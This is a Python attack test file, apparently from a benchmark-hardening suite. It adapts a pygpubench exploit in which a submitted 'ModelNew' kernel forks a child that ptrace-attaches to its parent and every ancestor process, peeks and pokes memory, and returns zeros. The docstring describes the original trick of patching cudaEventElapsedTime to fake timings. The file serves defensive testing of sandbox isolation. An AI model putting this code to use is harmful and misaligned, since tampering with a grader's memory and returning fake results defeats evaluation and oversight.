"""Attack PG-ptrace (task matmul): a child of the candidate's process
attaches with ptrace to its parent and to every process above it, to patch
their memory.

Adapts: gpu-mode/pygpubench exploits/submission_ptrace.py at commit
87bb46dfef7f1c5d596c12b2e3ec14664b9f2319 (our own code).  There the submission forks a child that
PTRACE_ATTACHes to the submission's process and PTRACE_POKETEXTs
cudaEventElapsedTime's code (POKETEXT ignores the page's protection), so
that every timing reads as tiny.  In kaudit the process worth patching is
the runner (it holds the reference and writes the evidence), so the child
tries every ancestor too.

What it does: on its first call forks; the child tries PTRACE_ATTACH, and
where refused PTRACE_SEIZE, on its parent (the candidate's process) and on
each process above it up to PID 1; on success it PEEKs one word at the
start of the target's first readable mapping, POKEs the same word back
(a write that changes nothing) and detaches.  Results go to
work/attack-ptrace.marker: "own=ok|refused" for the candidate's process and
"foreign_attached=N of M" for the processes above it.  Returns zeros.

What it exploits (in pygpubench): a process may be traced by its own
children, and ptrace writes ignore page protections.

What a correct defence must do: ptrace refused out of the candidate's
process (the seccomp filter, Landlock's domain, another uid without
CAP_SYS_PTRACE), so that foreign_attached counts 0; the zeros are then
not semantic PASS.
"""
import ctypes
import os
import time

import torch
import torch.nn as nn

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_libc.ptrace.restype = ctypes.c_long
ATTACH, SEIZE, PEEK, POKE, DETACH = 16, 0x4206, 2, 5, 17
_done = [False]


def _ppid(pid):
    with open("/proc/%d/stat" % pid) as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _try(pid):
    for req in (ATTACH, SEIZE):
        if _libc.ptrace(req, pid, None, None) == 0:
            break
        err = ctypes.get_errno()
    else:
        return "refused (%s)" % os.strerror(err)
    try:
        os.waitpid(pid, 0x40000000)  # __WALL
    except OSError:
        time.sleep(0.05)
    what = "attached"
    try:
        with open("/proc/%d/maps" % pid) as f:
            addr = int(f.readline().split("-")[0], 16)
        ctypes.set_errno(0)
        word = _libc.ptrace(PEEK, pid, ctypes.c_void_p(addr), None)
        if ctypes.get_errno() == 0:
            what += ", peeked"
            if _libc.ptrace(POKE, pid, ctypes.c_void_p(addr), ctypes.c_void_p(word & (2 ** 64 - 1))) == 0:
                what += ", poked"
    except OSError:
        pass
    _libc.ptrace(DETACH, pid, None, None)
    return what


def _child():
    lines, parent = [], os.getppid()
    r = _try(parent)
    lines.append("own=%s" % ("ok" if r.startswith("attached") else "refused"))
    lines.append("pid %d (the candidate's process): %s" % (parent, r))
    n = m = 0
    p = _ppid(parent)
    while p > 0:
        m += 1
        r = _try(p)
        n += r.startswith("attached")
        lines.append("pid %d: %s" % (p, r))
        if p == 1:
            break
        p = _ppid(p)
    lines.insert(0, "foreign_attached=%d of %d" % (n, m))
    with open("attack-ptrace.marker", "w") as f:
        f.write("\n".join(lines) + "\n")


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        if not _done[0]:
            _done[0] = True
            try:
                pid = os.fork()
            except OSError as exc:
                with open("attack-ptrace.marker", "w") as f:
                    f.write("fork refused: %s\n" % exc.strerror)
                pid = -1
            if pid == 0:
                try:
                    _child()
                finally:
                    os._exit(0)
            if pid > 0:
                os.waitpid(pid, 0)
        return torch.zeros(a.shape[0], b.shape[1], dtype=a.dtype, device=a.device)
